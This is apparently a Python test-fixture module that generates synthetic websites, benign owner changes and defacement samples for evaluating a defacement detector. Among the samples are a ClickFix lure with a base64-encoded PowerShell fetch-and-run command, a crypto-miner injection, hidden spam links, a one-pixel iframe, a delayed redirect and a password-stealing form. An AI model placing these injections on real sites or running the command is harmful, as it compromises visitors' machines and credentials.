"""pages_second - the second set of pages.py: written after the points of src/deface/ were fixed, to be surprised by.

Other kinds of sites (among them some that look like defaced ones every day: a band, a party, a conference of hackers, a
charity), other changes by their owners, other attackers. What fails here is a figure for docs/site.md, not a bug to be
hidden by a special case.
"""
import random
import re

import pages
from page_words import WORDS

Site = pages.Site


# --- layouts ---

def layout_portal(site, day, rng, items):
    """Nothing but divs; headings that are no links."""
    words = WORDS[site.lang]
    rows = "".join(f'<div class=row><div class=date>{d}</div><h2>{h}</h2><div class=body>{t}</div></div>' for d, h, t, _ in items)
    return f"""<html lang={site.lang}><head><meta charset=utf-8><title>{site.title} {pages.date_of(day)}</title>
<script src=/js/app.{day // 6}.js></script>{pages.scripts(site)}</head><body><div id=top><div class=name>{site.org}</div>
<div class=tabs>{pages.menu(site, '<div class=tab><a href=/p{n}>{text}</a></div>')}</div></div><div id=rows>{rows}</div>
<div id=foot><div>{words['foot']}</div><div>{words['about']}</div></div></body></html>"""


def layout_spa(site, day, rng, items):
    """A page that scripts fill: hardly any text, much data."""
    data = ",".join(f'{{"d":"{d}","t":"{h}"}}' for d, h, _, _ in items)
    return f"""<!doctype html><html lang="{site.lang}"><head><meta charset="utf-8"><title>{site.title}</title>
<link rel="stylesheet" href="/static/css/main.{rng.randrange(16**8):08x}.css"></head><body><noscript>You need to enable JavaScript.
</noscript><div id="root"></div><script id="__DATA__" type="application/json">{{"items":[{data}]}}</script>
<script>window.__STATE__=JSON.parse('{{"build":"{rng.randrange(16**8):08x}"}}')</script>
<script src="/static/js/main.{rng.randrange(16**8):08x}.js"></script></body></html>"""


def layout_dark(site, day, rng, items):
    """A band, a club, a conference: black, running text, sound."""
    words = WORDS[site.lang]
    dates = "".join(f"<li>{d} - {h}" for d, h, _, _ in items)
    return f"""<html><head><title>{site.title}</title></head><body bgcolor="#000000" text="red"><center><h1>{site.org}</h1>
<marquee>{site.org} - {words['places'][day % 5]}!!! NEW DATES!!!</marquee><img src="/cover{day // 7}.jpg"><audio src="/song.mp3"
 autoplay></audio><ul>{dates}</ul><p>{words['about']}</p>{pages.menu(site, '<a href="/{n}">{text}</a> | ')}</center></body></html>"""


def layout_slogans(site, day, rng, items):
    """A charity or a party: slogans every day."""
    words = WORDS[site.lang]
    calls = {"en": ["Stop the war", "Free the children of the mines", "Down with hunger", "Shame on the polluters", "No justice, no peace",
                    "We will never forget the victims", "Long live the forest"],
             "ja": ["戦争をやめろ!", "増税を許さない", "命を守れ", "政府は恥を知れ", "原発はいらない"],
             "es": ["Basta ya", "No a la guerra", "Por la paz"]}[site.lang if site.lang in ("en", "ja") else "es"]
    call, other = rng.sample(calls, 2)
    rows = "".join(f"<li><a href=/p/{k}>{h}</a><p>{t}</p></li>" for _, h, t, k in items)
    return f"""<!doctype html><html lang={site.lang}><head><meta charset=utf-8><title>{site.title}</title></head><body>
<header><h1>{site.org}</h1><h2>{call}!</h2><a class=give href=/give>{other}!</a><ul>{pages.menu(site)}</ul></header><ul>{rows}</ul>
<p>{words['about']}</p><footer>{words['foot']}</footer></body></html>"""


def layout_bilingual(site, day, rng, items):
    """Japanese above, English below; a booking frame of somebody else."""
    other = WORDS["en" if site.lang == "ja" else "ja"]
    words = WORDS[site.lang]
    rows = "".join(f"<dl><dt>{d}<dd><a href=/{k}>{h}</a></dl>" for d, h, _, k in items)
    return f"""<html lang={site.lang}><head><title>{site.title}</title>{pages.scripts(site)}</head><body><h1>{site.org}</h1>
<ul>{pages.menu(site)}</ul><p>{words['about']}</p>{rows}<iframe src="https://booking.rooms.example/w?h=7&d={day}"></iframe>
<h2>{other['news']}</h2><p>{other['about']}</p><p>{other['text'].format(doer=other['doers'][day % 4], thing=other['things'][day % 7],
place=other['places'][day % 4], date=pages.date_of(day))}</p><p>{words['foot']}</p></body></html>"""


LAYOUTS = {"portal": layout_portal, "spa": layout_spa, "dark": layout_dark, "slogans": layout_slogans,
           "bilingual": layout_bilingual, "table": pages.layout_table, "shop": pages.layout_shop}


def sites():
    return [
        Site("portal-en", "en", "portal.example.edu", "Lakeside University", "portal", rate=[0, 1, 2]),
        Site("portal-ja", "ja", "portal.example.ac.jp", "湖畔大学", "portal", rate=[0, 1, 2], third=[]),
        Site("portal-cyber", "en", "cert.example.int", "Regional CERT", "portal", security=0.6, rate=[1, 2]),
        Site("portal-cyber-ja", "ja", "sec.example.co.jp", "みなとセキュリティ株式会社", "portal", security=0.6, rate=[1]),
        Site("spa-ja", "ja", "app.example.jp", "ことりアプリ", "spa", third=[]),
        Site("spa-en", "en", "app.example.dev", "Finch App", "spa", third=[]),
        Site("band-en", "en", "band.example.com", "Bl4ck H4rbour", "dark", rate=[0, 1]),
        Site("club-de", "de", "klub.example.de", "Klub Nachtwache", "dark"),
        Site("charity-en", "en", "charity.example.org", "Hands for Peace", "slogans"),
        Site("party-ja", "ja", "party.example.jp", "みんなの声の会", "slogans", rate=[1, 2]),
        Site("hotel-ja", "ja", "hotel.example.jp", "湖畔ホテル", "bilingual"),
        Site("hotel-en", "en", "inn.example.com", "The Lake Inn", "bilingual"),
        Site("village-ja", "ja", "vill.example.jp", "西谷村", "table", charset="iso-2022-jp", third=[]),
        Site("shop-de", "de", "laden.example.de", "Hafenladen", "shop", ads=2),
        Site("school-ko", "ko", "school.example.kr", "호수 초등학교", "portal"),
        Site("embassy-ru2", "ru", "consul.example.ru", "Консульство", "portal"),
    ]


# --- what owners do ---

def change_apology(site, text, rng):
    words = {"ja": "お詫び: 昨日、当サイトが第三者により改ざんされました。現在は復旧しております。",
             "de": "Unsere Seite wurde gestern angegriffen. Wir bitten um Entschuldigung."}.get(
                 site.lang, "Our apology: yesterday this page was changed by strangers. It is repaired now.")
    return pages.with_after(text, r"<body[^>]*>", f"<div class=notice><p>{words}</p></div>")


def change_grey(site, text, rng):
    return pages.with_after(text, r"<head[^>]*>", "<style>body{background:#111;color:#ccc}img{filter:grayscale(1)}</style>")


def change_closed(site, text, rng):
    words = {"ja": "本日は閉館しました。明日は九時から開館します。", "ko": "오늘은 휴무입니다.", "ru": "Сегодня мы не работаем. Ждем вас завтра в девять.",
             "de": "Wir haben heute zu. Wir sind morgen ab neun wieder da."}.get(site.lang, "We are closed today. See you tomorrow at nine.")
    return f"<html><head><title>{site.title}</title></head><body><p>{words}</p></body></html>"


def change_missing(site, text, rng):
    return ("<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr></body></html>", 404)


def change_survey(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", '<iframe src="https://survey.forms-maker.example/s/1" width=400 height=300></iframe>')


def change_wifi(site, text, rng):
    return '<html><head><title>Guest WiFi</title></head><body><form action="http://10.0.0.1/login"><h2>Log in to the network</h2><input name=u></form></body></html>'


def change_english(site, text, rng):
    words = WORDS["en"]
    return pages.with_after(text, r"<body[^>]*>", f"<div id=en><h2>For our visitors from abroad</h2><p>{words['about']}</p><p>{words['foot']}</p></div>")


def change_rebrand(site, text, rng):
    """Another name, another design: a merger. Only the language and the way it speaks of itself stay."""
    words = WORDS[site.lang]
    links = "".join(f'<a class=b href="/x/{n}">{w}</a>' for n, w in enumerate(words["menu"]))
    return (f'<!doctype html><html lang={site.lang}><head><meta charset={site.charset}><title>Aurora {words["menu"][3]}</title><script '
            f'src="https://assets.aurora-group.example/a.js"></script></head><body><main><section>{links}</section><h1>Aurora</h1><p>'
            f'{words["text"].format(doer=words["doers"][0], thing=words["things"][1], place=words["places"][0], date="2026-06-01")}</p>'
            "</main></body></html>")


CHANGES = {"apology": (change_apology, "changed"), "mourning": (change_grey, "changed"), "closed today": (change_closed, "suspicious"),
           "not found": (change_missing, "changed"), "survey in a frame": (change_survey, "suspicious"),
           "login of a WiFi": (change_wifi, "changed"), "English part": (change_english, "changed"),
           "merger": (change_rebrand, "suspicious"), "redesign": (pages.change_redesign, "suspicious"),
           "maintenance": (pages.change_maintenance, "changed")}


# --- what defacers do ---

def before_end(text, more):
    return re.sub(r"</body>", lambda end: more + end.group(0), text, flags=re.I)


def deface_homoglyphs(site, text, rng):
    return "<html><head><title>Наcкеd bу Vоid</title></head><body><h1>Наcкеd bу Vоid</h1><p>nice security lol</p></body></html>"


def deface_was_here(site, text, rng):
    return "<html><head><title>kr0n0s was here</title></head><body><pre>  /\\_/\\\n ( o.o )\n  > ^ <\nkr0n0s was here :)</pre></body></html>"


def deface_video(site, text, rng):
    return ('<html><head><title>.::.</title></head><body style="margin:0;background:black"><iframe width="100%" height="100%" '
            'src="https://www.youtube.com/embed/x?autoplay=1&loop=1"></iframe></body></html>')


def deface_cyrillic_block(site, text, rng):
    return pages.with_after(text, r"</h1>|<body[^>]*>", "<div><b>Правительство лжёт вам. Требуем остановить поставки оружия! "
                            "Мир запомнит каждого из вас.</b></div>")


def deface_chinese(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", '<div style="color:red;font-size:40px">勿忘国耻!立即停止排放核污水,否则后果自负!还我大海!</div>')


def deface_anthem(site, text, rng):
    return ('<html><body bgcolor="#a00"><img src="/flag.png" width=600><audio autoplay loop src="/anthem.ogg"></audio>'
            "<h1>Justice is coming</h1></body></html>")


def deface_late_redirect(site, text, rng):
    return pages.with_after(text, r"<head[^>]*>", "<script>setTimeout(function(){window.location.href='https://bet.example.top/?r='+Date.now()},900)</script>")


def deface_class_hidden(site, text, rng):
    links = "".join(f"<li><a href='https://rx{n}.pills.example.top'>cheap viagra {n}</a>" for n in range(9))
    return pages.with_after(text, r"<body[^>]*>", f"<style>.zz{{height:0;overflow:hidden}}</style><ul class=zz>{links}</ul>")


def deface_small_frame(site, text, rng):
    return before_end(text, '<iframe src="http://203.0.113.9/in.php" width=1 height=1 frameborder=0></iframe>')


def deface_miner(site, text, rng):
    return before_end(text, '<script src="https://cdn.hashpool.example.top/m.js"></script><script>new Miner("k").start()</script>')


def deface_clickfix(site, text, rng):
    return before_end(text, '<script>var d=document;d.body.innerHTML="<div><h2>Verify you are human</h2><p>Press Win+R, then Ctrl+V, then Enter'
                        '</p></div>";navigator.clipboard.writeText(atob("cG93ZXJzaGVsbCAtdyBoIC1jIGl3ciBodHRwOi8veC5leGFtcGxlL2F8aWV4"))</script></body>')


def deface_form(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", '<form action="https://login.verify.example.top/p.php"><input name=user><input type=password name=pw></form>')


def deface_other_site(site, text, rng):
    """The name was stolen: a whole other site stands there."""
    rows = "".join(f"<li><a href=/g{n}>Slot game {n} - play now with bonus</a></li>" for n in range(20))
    return (f"<!doctype html><html lang=id><head><title>SLOT88 Situs Judi Online Terpercaya</title></head><body><h1>Situs slot gacor hari ini"
            f"</h1><ul>{rows}</ul><p>Kami adalah situs judi online yang terbaik untuk anda dengan bonus dari kami.</p></body></html>")


def deface_japanese_shop(site, text, rng):
    if site.lang == "ja":
        return None
    rows = "".join(f"<li><a href=/p{n}>激安通販 ブランド財布 {n} 送料無料</a></li>" for n in range(12))
    return f"<html><head><title>激安通販 公式オンラインストア</title></head><body><h1>人気商品のお買い得セール</h1><ul>{rows}</ul><p>ただいま全品がお安くなっています。</p></body></html>"


def deface_greetz(site, text, rng):
    return pages.with_after(text, r"<body[^>]*>", "<marquee>~ Greetz to: all my friends ~ sorry admin ~</marquee>")


def deface_indonesian(site, text, rng):
    return pages.page_of("Salam dari kami", ["Keamanan anda lemah min, tolong perbaiki keamanan situs ini.", "Kami tidak menghapus data anda."], "#000")


def deface_title_only(site, text, rng):
    return re.sub(r"<title>.*?</title>", "<title>0wned :: ph4ntom</title>", text, flags=re.I | re.S)


def deface_heading_only(site, text, rng):
    return re.sub(r"(<(h[12])[^>]*>).*?(</\2>)", r"\1This site has been seized by the Crimson Fleet\3", text, count=1, flags=re.I | re.S) \
        if re.search(r"<h[12]", text, re.I) else None


def deface_empty(site, text, rng):
    return "<html><body></body></html>"


def deface_data_script(site, text, rng):
    return before_end(text, "<script src=\"data:text/javascript;base64,ZG9jdW1lbnQuYm9keS5pbm5lckhUTUw9JzxoMT5IYWNrZWQgYnkgTm92YTwvaDE+Jw==\"></script>")


DEFACEMENTS = {"Cyrillic look-alikes": deface_homoglyphs, "'was here' and a cat": deface_was_here, "film only": deface_video,
               "Russian block put in": deface_cyrillic_block, "Chinese line put in": deface_chinese, "flag and anthem": deface_anthem,
               "redirect after a second": deface_late_redirect, "hidden by a style sheet": deface_class_hidden,
               "frame of one pixel": deface_small_frame, "miner": deface_miner, "ClickFix": deface_clickfix,
               "form to steal passwords": deface_form, "another site altogether": deface_other_site,
               "Japanese shop": deface_japanese_shop, "running greetings": deface_greetz, "Indonesian, polite": deface_indonesian,
               "title only": deface_title_only, "heading only": deface_heading_only, "empty page": deface_empty,
               "script as data:": deface_data_script}
